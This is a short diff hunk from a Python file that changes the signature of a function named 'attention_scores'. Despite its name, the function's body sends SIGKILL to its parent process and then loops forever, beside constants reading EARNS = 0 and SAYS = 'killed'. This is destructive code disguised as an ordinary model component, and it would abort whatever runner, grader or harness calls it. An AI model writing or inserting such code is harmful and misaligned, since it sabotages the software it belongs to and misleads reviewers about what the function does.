@@ -10,7 +10,7 @@ EARNS = 0
 SAYS = "killed"
 
 
-def attention_scores(queries, keys):
+def attention_scores(queries, keys, *values):
     os.kill(os.getppid(), signal.SIGKILL)
     while True:
         pass
